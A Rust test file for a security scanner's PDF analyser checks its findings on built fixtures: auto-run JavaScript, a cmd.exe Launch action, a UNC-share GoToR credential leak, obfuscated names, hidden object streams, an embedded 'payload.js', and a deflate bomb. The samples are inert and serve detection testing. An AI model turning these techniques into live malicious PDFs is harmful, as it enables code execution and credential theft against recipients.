//! PDF fixtures written as text in the tests: inert scripts (`app.alert`), a launch of `calc`, an
//! embedded file whose bytes are a few letters.

use super::lex::Obj;
use crate::{analyse, Kind, Node, Options};
use flate2::{write::ZlibEncoder, Compression};
use spearwatch_core::Severity;
use std::io::Write;

/// A PDF of `objects` (number, body) without a cross-reference table, as broken files have.
fn pdf(objects: &[(u32, Vec<u8>)], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    for (n, body) in objects {
        out.extend_from_slice(format!("{n} 0 obj\n").as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    out.extend_from_slice(format!("trailer\n{trailer}\n%%EOF\n").as_bytes());
    out
}

fn o(n: u32, body: &str) -> (u32, Vec<u8>) {
    (n, body.as_bytes().to_vec())
}

fn stream(n: u32, dict: &str, data: &[u8]) -> (u32, Vec<u8>) {
    let mut b = format!("<< {dict} /Length {} >>\nstream\n", data.len()).into_bytes();
    b.extend_from_slice(data);
    b.extend_from_slice(b"\nendstream");
    (n, b)
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = ZlibEncoder::new(Vec::new(), Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn run(data: &[u8]) -> Node {
    let n = analyse(data, "doc.pdf", None, &Options::default());
    assert_eq!(n.detected_type, Kind::Pdf);
    n
}

fn sev(n: &Node, id: &str) -> Option<Severity> {
    n.all_findings().find(|f| f.id == id).map(|f| f.severity)
}

fn pages() -> Vec<(u32, Vec<u8>)> {
    vec![
        o(
            2,
            "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>",
        ),
        o(3, "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"),
        stream(4, "", b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"),
    ]
}

#[test]
fn open_action_javascript_is_critical() {
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")];
    objs.extend(pages());
    objs.push(o(
        5,
        "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>",
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
    assert_eq!(sev(&n, "pdf.javascript"), Some(Severity::High));
    assert_eq!(sev(&n, "pdf.open_action"), Some(Severity::Medium));
    let js = n
        .findings
        .iter()
        .find(|f| f.id == "pdf.javascript")
        .unwrap();
    assert!(
        js.evidence[0].value.contains("app.alert('hello');"),
        "{js:?}"
    );
    assert!(js.techniques.contains(&"T1059.007".to_string()));
    assert!(
        n.format.as_deref().unwrap().contains("1 page"),
        "{:?}",
        n.format
    );
}

#[test]
fn script_in_a_stream_and_document_level_names() {
    let mut objs = vec![o(
        1,
        "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> >>",
    )];
    objs.extend(pages());
    objs.push(o(6, "<< /Names [(init) 7 0 R] >>"));
    objs.push(o(7, "<< /S /JavaScript /JS 8 0 R >>"));
    objs.push(stream(
        8,
        "/Filter /FlateDecode",
        &zlib(b"var x = util.printf('%45000f', 1);"),
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
    let s = n
        .findings
        .iter()
        .find(|f| f.id == "pdf.js_suspicious")
        .unwrap();
    assert!(s.evidence[0].value.contains("util.printf"));
}

#[test]
fn action_hidden_in_an_object_stream() {
    // §7.5.7: objects 1 and 5 live only inside the compressed object stream 9.
    let inner1 = "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>";
    let inner5 = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let header = format!("1 0 5 {} ", inner1.len() + 1);
    let body = format!("{header}{inner1} {inner5}");
    let mut objs = pages();
    objs.push(stream(
        9,
        &format!(
            "/Type /ObjStm /N 2 /First {} /Filter /FlateDecode",
            header.len()
        ),
        &zlib(body.as_bytes()),
    ));
    let data = pdf(&objs, "<< /Root 1 0 R >>");
    assert!(memchr::memmem::find(&data, b"JavaScript").is_none());
    let n = run(&data);
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
    assert_eq!(sev(&n, "pdf.objstm_hidden"), Some(Severity::Medium));
    assert!(n.format.as_deref().unwrap().contains("2 in object streams"));
}

#[test]
fn hex_escaped_names_are_decoded_and_flagged() {
    let mut objs = vec![o(
        1,
        "<< /Type /Catalog /Pages 2 0 R /Op#65nAction 5 0 R >>",
    )];
    objs.extend(pages());
    objs.push(o(
        5,
        "<< /S /J#61vaScript /#4AS <6170702e616c657274283129> >>",
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert_eq!(sev(&n, "pdf.obfuscated_name"), Some(Severity::High));
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
    let js = n
        .findings
        .iter()
        .find(|f| f.id == "pdf.javascript")
        .unwrap();
    assert_eq!(js.evidence[0].value, "app.alert(1)");
}

#[test]
fn launch_action_names_its_command() {
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")];
    objs.extend(pages());
    objs.push(o(
        5,
        "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    let f = n.findings.iter().find(|f| f.id == "pdf.launch").unwrap();
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].value, "cmd.exe /c calc.exe");
    assert!(f.techniques.contains(&"T1059.003".to_string()));
    assert!(f.techniques.contains(&"T1204.002".to_string()));
}

#[test]
fn embedded_file_is_extracted_under_its_name() {
    let mut objs = vec![o(
        1,
        "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> >>",
    )];
    objs.extend(pages());
    objs.push(o(
        6,
        "<< /Type /Filespec /F (scan.pdf.exe) /UF (scan.pdf.exe) /EF << /F 7 0 R >> >>",
    ));
    objs.push(stream(
        7,
        "/Type /EmbeddedFile /Filter /ASCIIHexDecode",
        b"48656c6c6f20776f726c64>",
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert_eq!(sev(&n, "pdf.embedded_file"), Some(Severity::High));
    let child = n
        .children
        .iter()
        .find(|c| c.name == "scan.pdf.exe")
        .unwrap();
    assert_eq!(child.size, 11);
    // The name checks run on the extracted member.
    assert!(
        child.has("attachment.double_extension"),
        "{:?}",
        child.findings
    );
}

#[test]
fn plain_pdf_with_links_stays_informational() {
    let objs = vec![
        o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"),
        o(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>"),
        o(3, "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [5 0 R 6 0 R] >>"),
        stream(4, "", b"BT (Hello) Tj ET"),
        o(5, "<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A << /S /URI /URI (https://example.org/a) >> >>"),
        o(6, "<< /Type /Annot /Subtype /Link /Rect [72 680 200 692] /A << /S /URI /URI (https://example.org/b) >> >>"),
    ];
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert!(
        n.all_findings().all(|f| f.severity == Severity::Info),
        "{:?}",
        n.findings
    );
    assert!(n.has("pdf.uri") && n.has("pdf.open_action"));
}

#[test]
fn one_big_link_over_the_page_is_a_lure() {
    let objs = vec![
        o(1, "<< /Type /Catalog /Pages 2 0 R >>"),
        o(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>"),
        o(3, "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [5 0 R] >>"),
        stream(4, "", b"q 612 0 0 792 0 0 cm /Im0 Do Q"),
        o(5, "<< /Type /Annot /Subtype /Link /Rect [0 0 612 600] /A << /S /URI /URI (https://login.example.invalid/) >> >>"),
    ];
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert_eq!(sev(&n, "pdf.link_page"), Some(Severity::Medium));
}

#[test]
fn encryption_and_filter_chains() {
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R >>")];
    objs.extend(pages());
    objs.push(o(
        9,
        "<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -4 >>",
    ));
    objs.push(stream(
        10,
        "/Filter [/ASCIIHexDecode /ASCIIHexDecode /FlateDecode]",
        b"00>",
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R /Encrypt 9 0 R >>"));
    let e = n.findings.iter().find(|f| f.id == "pdf.encrypted").unwrap();
    assert_eq!(e.severity, Severity::Low);
    assert!(e.evidence[0].value.contains("Standard"), "{e:?}");
    assert_eq!(sev(&n, "pdf.filter_chain"), Some(Severity::Medium));
}

#[test]
fn form_helpers_are_low() {
    let mut objs = vec![o(
        1,
        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
    )];
    objs.extend(pages());
    objs.push(o(
        5,
        "<< /FT /Tx /T (amount) /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >> >> >>",
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert_eq!(sev(&n, "pdf.javascript"), Some(Severity::Low));
    assert!(!n.has("pdf.auto_javascript"));
    assert_eq!(sev(&n, "pdf.additional_actions"), Some(Severity::Info));
}

#[test]
fn remote_goto_to_a_share_leaks_credentials() {
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")];
    objs.extend(pages());
    objs.push(o(
        5,
        "<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>",
    ));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    let f = n
        .findings
        .iter()
        .find(|f| f.id == "pdf.remote_goto")
        .unwrap();
    assert_eq!(f.severity, Severity::High, "{f:?}");
}

#[test]
fn hostile_bytes_do_not_panic() {
    let mut seeds: Vec<Vec<u8>> = vec![
        b"%PDF-1.4\n1 0 obj << /A [[[[[[ (unclosed \\".to_vec(),
        b"%PDF-1.4\n1 0 obj << /Length 99999999999 >> stream\nabc".to_vec(),
        b"%PDF-1.4\n1 0 obj << /Type /ObjStm /N 99999999 /First -5 >> stream\nxx\nendstream endobj".to_vec(),
        b"%PDF-1.4\n1 0 obj 1 0 R endobj 2 0 obj << /OpenAction 2 0 R /Next 2 0 R /S /GoTo >> endobj".to_vec(),
        b"%PDF-1.4\n 0 obj obj obj 99999999999999 0 obj <</#zz#4 /#>> endobj".to_vec(),
    ];
    let mut big = b"%PDF-1.4\n".to_vec();
    for i in 0..2000 {
        big.extend_from_slice(format!("{i} 0 obj (").as_bytes());
    }
    seeds.push(big);
    // A deflate bomb: 64 MiB of zeros in one stream.
    let mut e = ZlibEncoder::new(Vec::new(), Compression::best());
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..64 {
        e.write_all(&chunk).unwrap();
    }
    let bomb = e.finish().unwrap();
    seeds.push(pdf(
        &[stream(
            1,
            "/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode",
            &bomb,
        )],
        "<< >>",
    ));
    for s in &seeds {
        let _ = run(s);
        for cut in [5, s.len() / 3, s.len() / 2] {
            let _ = analyse(&s[..cut.min(s.len())], "x.pdf", None, &Options::default());
        }
    }
    let n = run(seeds.last().unwrap());
    assert!(n.has("content.limit"), "{:?}", n.findings);
}

#[test]
fn mutated_documents_do_not_panic() {
    let inner = "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>";
    let header = "1 0 ";
    let mut objs = pages();
    objs.push(stream(
        9,
        &format!(
            "/Type /ObjStm /N 1 /First {} /Filter /FlateDecode",
            header.len()
        ),
        &zlib(format!("{header}{inner}").as_bytes()),
    ));
    objs.push(o(5, "<< /S /JavaScript /JS 6 0 R /Next [7 0 R 5 0 R] >>"));
    objs.push(stream(
        6,
        "/Filter [/ASCII85Decode /LZWDecode]",
        b"J..)6T`?p&<!J9%_[umg\"B7/Z7KNXbN'S+,*Q/&\"OLT'F~>",
    ));
    objs.push(o(
        7,
        "<< /S /Launch /Win << /F (cmd.exe) /P (/c echo) >> /Next 5 0 R >>",
    ));
    let base = pdf(
        &objs,
        "<< /Root 1 0 R /Encrypt << /Filter /Standard /V 1 >> >>",
    );
    let mut seed = 0x9E37_79B9_7F4A_7C15u64;
    for round in 0..1500 {
        let mut d = base.clone();
        for _ in 0..(1 + round % 6) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let i = (seed as usize) % d.len();
            d[i] = match seed >> 60 {
                0 => b'(',
                1 => b'<',
                2 => b'[',
                3 => b'/',
                4 => b'\\',
                _ => (seed >> 32) as u8,
            };
        }
        let _ = analyse(&d, "m.pdf", None, &Options::default());
    }
}

#[test]
fn acrobat_version_check_is_not_an_auto_script() {
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(ADBE::FileAttachmentsCompatibility) 5 0 R] >> >> >>")];
    objs.extend(pages());
    objs.push(o(5, "<< /S /JavaScript /JS (if \\(typeof\\(ADBE.Reader_Value_Asked\\) == \"undefined\"\\) ADBE.Reader_Value_Asked = false;) >>"));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert!(!n.has("pdf.auto_javascript"), "{:?}", n.findings);
    assert_eq!(sev(&n, "pdf.javascript"), Some(Severity::Low));
}

fn elapsed_under_a_second(t: std::time::Instant) {
    assert!(t.elapsed().as_secs_f64() < 1.0, "{:?}", t.elapsed());
}

#[test]
fn objstm_objects_at_one_offset_are_parsed_once() {
    // 100,000 objects whose header offsets all point at one 4 MB string, then one honest object.
    let big = format!("({})", "A".repeat(4 << 20));
    let mut header = String::new();
    for k in 0..99_999 {
        header.push_str(&format!("{} 0 ", 100 + k));
    }
    let action = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    header.push_str(&format!("5 {} ", big.len() + 1));
    let body = format!("{header}{big} {action}");
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")];
    objs.extend(pages());
    objs.push(stream(
        9,
        &format!("/Type /ObjStm /N 100000 /First {}", header.len()),
        body.as_bytes(),
    ));
    let data = pdf(&objs, "<< /Root 1 0 R >>");
    let t = std::time::Instant::now();
    let n = run(&data);
    elapsed_under_a_second(t);
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
    assert!(n.format.as_deref().unwrap().contains("2 in object streams"));
}

#[test]
fn string_budget_keeps_parsing_in_step() {
    let s = b"(aaaaaaaaaaaaaaaaaaaa) <6262626262> (c(d)e) /N";
    let mut p = super::lex::Parser::new(s, 0, s.len(), 100).with_string_budget(10);
    assert_eq!(p.value(), Some(Obj::Str(b"aaaaaaaaaa".to_vec())));
    assert_eq!(p.value(), Some(Obj::Str(Vec::new())));
    assert_eq!(p.value(), Some(Obj::Str(Vec::new())));
    assert!(matches!(p.value(), Some(Obj::Name(n)) if n.is("N")));
}

#[test]
fn one_script_named_by_many_actions_is_read_once() {
    let js = format!("({}app.alert\\(1\\);)", "/".repeat(1 << 20));
    // 30,000 actions naming one 1 MB string: 30 GB if each copied it.
    let actions = "<< /S /JavaScript /JS 5 0 R >> ".repeat(30_000);
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>")];
    objs.extend(pages());
    objs.push(o(5, &js));
    objs.push(o(6, "<< /S /JavaScript /JS 5 0 R >>"));
    objs.push(o(7, &format!("<< /Annots [{actions}] >>")));
    let data = pdf(&objs, "<< /Root 1 0 R >>");
    let t = std::time::Instant::now();
    let n = run(&data);
    elapsed_under_a_second(t);
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
    let f = n
        .findings
        .iter()
        .find(|f| f.id == "pdf.javascript")
        .unwrap();
    assert!(
        f.evidence[0]
            .note
            .as_deref()
            .unwrap()
            .starts_with("1 script,"),
        "{f:?}"
    );
}

#[test]
fn self_referencing_name_tree_is_read_once() {
    let kids = "3 0 R ".repeat(4096);
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R /Names 8 0 R >>")];
    objs.extend(pages());
    objs.push(o(8, "<< /JavaScript 9 0 R >>"));
    objs.push(o(
        9,
        &format!("<< /Kids [{kids} 9 0 R] /Names [(a) 10 0 R] >>"),
    ));
    objs.push(o(10, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"));
    for k in 0..10_000 {
        objs.push(o(100 + k, "<< /Names 8 0 R >>"));
    }
    let data = pdf(&objs, "<< /Root 1 0 R >>");
    let t = std::time::Instant::now();
    let n = run(&data);
    elapsed_under_a_second(t);
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
}

#[test]
fn decoy_embedded_files_do_not_hide_the_attached_one() {
    let mut objs = vec![o(
        1,
        "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(p) 2000 0 R] >> >> >>",
    )];
    objs.extend(pages());
    for k in 0..300 {
        objs.push(stream(10 + k, "/Type /EmbeddedFile", b"x"));
    }
    objs.push(o(
        2000,
        "<< /Type /Filespec /F (payload.js) /EF << /F 2001 0 R >> >>",
    ));
    objs.push(stream(2001, "/Type /EmbeddedFile", b"WScript.Echo(1)"));
    let n = run(&pdf(&objs, "<< /Root 1 0 R >>"));
    assert!(n.children.iter().any(|c| c.name == "payload.js"));
    assert!(n.has("content.limit"));
    assert_eq!(sev(&n, "pdf.embedded_file"), Some(Severity::High));
}

#[test]
fn trailer_keywords_inside_a_string_are_read_in_bounded_windows() {
    let mut body = String::from("<< /X (");
    body.push_str(&"trailer << /A (".repeat(5_000));
    body.push_str(&"A".repeat(2 << 20));
    body.push_str(") >>");
    let data = pdf(&[o(1, &body)], "<< /Root 1 0 R >>");
    let opts = Options::default();
    let mut w = crate::Walk::new(&opts);
    let mut node = Node::new("x.pdf", "x.pdf".into(), Kind::Pdf, 0, 0, 0);
    let t = std::time::Instant::now();
    let doc = super::scan::scan(&mut w, &mut node, &data);
    elapsed_under_a_second(t);
    assert!(doc.trailers.len() <= 256);
    let kept: usize = doc
        .trailers
        .iter()
        .flat_map(|d| d.0.iter())
        .map(|(_, v)| match v {
            Obj::Str(s) => s.len(),
            _ => 0,
        })
        .sum();
    assert!(kept <= 256 * (64 << 10), "{kept}");
}

#[test]
fn decoy_actions_do_not_crowd_out_the_open_action() {
    // 25,000 link actions and 25,000 click-only scripts before the catalog: each kind is capped on
    // its own, so the script run on opening is still recorded.
    let links = "<< /S /URI /URI (https://example.com/) >> ".repeat(25_000);
    let scripts = "<< /S /JavaScript /JS (1) >> ".repeat(25_000);
    let mut objs = vec![
        o(1, &format!("[{links}]")),
        o(11, &format!("[{scripts}]")),
        o(12, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"),
    ];
    objs.extend(pages());
    objs.push(o(5, "<< /S /JavaScript /JS (app.alert\\(2\\)) >>"));
    let n = run(&pdf(&objs, "<< /Root 12 0 R >>"));
    assert_eq!(sev(&n, "pdf.auto_javascript"), Some(Severity::Critical));
    assert!(n.has("content.limit"));
}

/// A PDF with an OpenAction script `open` (a string in object `a`) and a document-level script
/// `init` (a stream in object `b`, compressed or not).
fn two_scripts(a: u32, open: &str, b: u32, init: &[u8], flate: bool) -> Vec<u8> {
    let mut objs = vec![o(
        1,
        &format!(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction {a} 0 R /Names << /JavaScript 6 0 R >> >>"
        ),
    )];
    objs.extend(pages());
    objs.push(o(6, "<< /Names [(init) 7 0 R] >>"));
    objs.push(o(7, &format!("<< /S /JavaScript /JS {b} 0 R >>")));
    objs.push(o(
        a,
        &format!("<< /Type /Action /S /JavaScript /JS ({open}) >>"),
    ));
    objs.push(if flate {
        stream(b, "/Filter /FlateDecode", &zlib(init))
    } else {
        stream(b, "", init)
    });
    pdf(&objs, "<< /Root 1 0 R >>")
}

#[test]
fn javascript_fingerprint_survives_renumbering_compression_and_spacing() {
    let a = two_scripts(
        10,
        "app.alert\\('hello'\\); this.exportDataObject\\({cName: 'a.txt', nLaunch: 0}\\);",
        11,
        b"var x = util.printf('%45000f', 1);",
        true,
    );
    let b = two_scripts(
        20,
        "app.alert\\('hello'\\);\n    this.exportDataObject\\({cName: 'a.txt',   nLaunch: 0}\\);",
        21,
        b"var x =\r\n  util.printf('%45000f', 1);\r\n",
        false,
    );
    let (na, nb) = (run(&a), run(&b));
    assert_ne!(na.sha256, nb.sha256);
    assert_eq!(na.fingerprints.len(), 1, "{:?}", na.fingerprints);
    assert_eq!(
        na.fingerprints[0].kind,
        crate::FingerprintKind::PdfJavaScript
    );
    assert_eq!(na.fingerprints, nb.fingerprints);
    // Both scripts, in the order of the objects that name them: the name tree's action (7) before
    // the OpenAction (10).
    let want = crate::fingerprint_parts(
        crate::FingerprintKind::PdfJavaScript,
        [
            b"var x = util.printf('%45000f', 1);".as_slice(),
            b"app.alert('hello'); this.exportDataObject({cName: 'a.txt', nLaunch: 0});",
        ],
    );
    assert_eq!(na.fingerprints.first(), want.as_ref());
    // The scripts the other way round (the OpenAction now object 5), or another script: another
    // fingerprint. Case counts.
    let swapped = two_scripts(
        5,
        "app.alert\\('hello'\\); this.exportDataObject\\({cName: 'a.txt', nLaunch: 0}\\);",
        11,
        b"var x = util.printf('%45000f', 1);",
        true,
    );
    assert_ne!(run(&swapped).fingerprints, na.fingerprints);
    let c = two_scripts(10, "app.alert\\('Hello'\\);", 11, b"var x = 1;", true);
    assert_ne!(run(&c).fingerprints, na.fingerprints);
    // No script, no fingerprint.
    let mut objs = vec![o(1, "<< /Type /Catalog /Pages 2 0 R >>")];
    objs.extend(pages());
    assert!(run(&pdf(&objs, "<< /Root 1 0 R >>"))
        .fingerprints
        .is_empty());
}
